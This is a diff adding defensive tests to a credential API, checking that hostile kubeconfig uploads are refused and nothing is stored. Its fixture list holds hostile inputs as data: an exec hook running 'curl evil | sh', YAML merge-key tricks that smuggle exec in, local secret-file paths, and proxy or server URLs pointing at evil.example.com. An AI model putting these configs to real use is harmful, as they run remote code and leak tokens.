@@ -162,6 +162,81 @@ def test_kubeconfig_exec_and_auth_provider_refused_with_reason(d, name):
     assert "gke" in msg or "eks" in msg or "external" in msg, err
 
 
+def kube_variant(user=None, cluster=None, entry=None, top=""):
+    """kubeconfig-token.yaml with its user's or cluster's body replaced (the
+    lines under "  user:" / "  cluster:"), or its user entry replaced whole."""
+    text = fixture("kubeconfig-token.yaml")
+    tok_line = next(l for l in text.splitlines() if l.strip().startswith("token:"))
+    ca_line = next(l for l in text.splitlines() if "certificate-authority-data" in l)
+    if user is not None:
+        text = text.replace(tok_line, tok_line + "\n" + user.rstrip("\n"))
+    if cluster is not None:
+        text = text.replace(ca_line, ca_line + "\n" + cluster.rstrip("\n"))
+    if entry is not None:
+        start = text.index("users:\n")
+        text = text[:start] + "users:\n" + entry
+    return top + text
+
+
+KUBE_TOKEN = fixture("kubeconfig-token.yaml").split("token: ")[1].strip()
+
+# Issue 11: each of these would make kubectl run a program, read a local file
+# or send the token elsewhere. (variant, where the message must point)
+HOSTILE_KUBECONFIGS = [
+    (kube_variant(user="    <<: {exec: {command: /bin/sh, args: [-c, 'curl evil | sh']}}"),
+     "users[0].user.<<"),
+    (kube_variant(user="    <<:\n      exec:\n        command: /bin/sh\n"), "users[0].user.<<"),
+    (kube_variant(user='    "<<": {exec: {command: /bin/sh}}'), "users[0].user.<<"),
+    (kube_variant(user="    !!merge <<: {exec: {command: /bin/sh}}"), "users[0].user.<<"),
+    (kube_variant(entry="- name: credstore-scanner\n  <<: {user: {auth-provider: {name: gcp}}}\n"),
+     "users[0].<<"),
+    (kube_variant(top="x-plugin: &p {exec: {command: /bin/sh}}\n", user="    <<: *p"),
+     "x-plugin"),
+    (kube_variant(user="    token2: &t x"), "users[0].user.token2"),
+    (kube_variant(user="    tokenFile: /etc/credstore/master.key"), "users[0].user.tokenFile"),
+    (kube_variant(user="    client-certificate: /home/u/.kube/c.crt\n    client-key: /home/u/k"),
+     "users[0].user.client-certificate"),
+    (kube_variant(user="    exec: {command: /bin/sh}"), "users[0].user.exec"),
+    (kube_variant(user="    Exec: {command: /bin/sh}"), "users[0].user.Exec"),
+    (kube_variant(cluster="    certificate-authority: /etc/ssl/private/ca.pem"),
+     "clusters[0].cluster.certificate-authority"),
+    (kube_variant(cluster="    proxy-url: http://evil.example.com:3128"),
+     "clusters[0].cluster.proxy-url"),
+    (kube_variant(cluster="    insecure-skip-tls-verify: true"),
+     "clusters[0].cluster.insecure-skip-tls-verify"),
+    (kube_variant().replace("https://10.96.0.1:6443", "http://10.96.0.1:6443"),
+     "clusters[0].cluster.server"),
+    (kube_variant().replace("https://10.96.0.1:6443", "http://127.0.0.1@evil.example.com"),
+     "clusters[0].cluster.server"),
+]
+
+
+def test_hostile_kubeconfigs_refused_and_nothing_stored(d):
+    def ids():
+        r = d.get("/api/v1/credentials", headers=d.auth)
+        assert r.status_code == 200, r.text
+        return sorted(c["_id"] for c in r.json())
+
+    # An existing kubeconfig credential must not be replaced by one either.
+    r = create(d, "kube-hostile-edit", valid_bodies()["kube-token"])
+    assert r.status_code in (200, 201), r.text
+    kept = r.json()
+    before = ids()
+    for i, (yaml_text, where) in enumerate(HOSTILE_KUBECONFIGS):
+        for cid in ["kube-hostile-%d" % i, "kube-hostile-edit"]:
+            r = create(d, cid, {"type": "kubeconfig", "secret": {"plain": yaml_text}})
+            err = assert_error(r, 400, "invalid_field")
+            assert err["field"] == "secret.plain", err
+            assert where in err["err"], (where, err)
+            assert KUBE_TOKEN not in r.text and "/bin/sh" not in r.text
+        assert_error(d.get("/api/v1/credentials/kube-hostile-%d" % i, headers=d.auth), 404)
+    assert ids() == before
+    assert d.get("/api/v1/credentials/kube-hostile-edit", headers=d.auth).json() == kept
+    # The same fixture without the additions is still accepted.
+    assert create(d, "kube-hostile-0", {"type": "kubeconfig",
+                                        "secret": {"plain": kube_variant()}}).status_code == 201
+
+
 def test_bad_requests(d):
     assert_error(d.post("/api/v1/credentials", data=b"{", headers=d.auth), 400, "malformed_json")
     assert_error(d.post("/api/v1/credentials", data=b"[1]", headers=d.auth), 400)
